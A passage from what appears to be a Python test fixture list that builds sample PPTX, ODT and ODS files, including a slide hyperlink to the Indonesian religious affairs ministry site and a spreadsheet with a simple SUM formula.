        slide_links='<a:hlinkClick r:id="rId1"/>',
        slide_rels=[("hyperlink", "https://www.kemenag.go.id/", True)],
        parts={"ppt/media/image1.png": PNG()}), "pptx"),
    S("odt-minimal", "notulen.odt", make_odt, "odt"),
    S("odt-like-libreoffice", "notulen.odt", _odt_like_libreoffice, "odt"),
    S("ods-with-formula", "data.ods", lambda: odf(ODS, ODS_BODY.format(
        formula="of:=SUM([.A1:.A1])&amp;&quot;|&quot;")), "ods"),
]  # fmt: skip
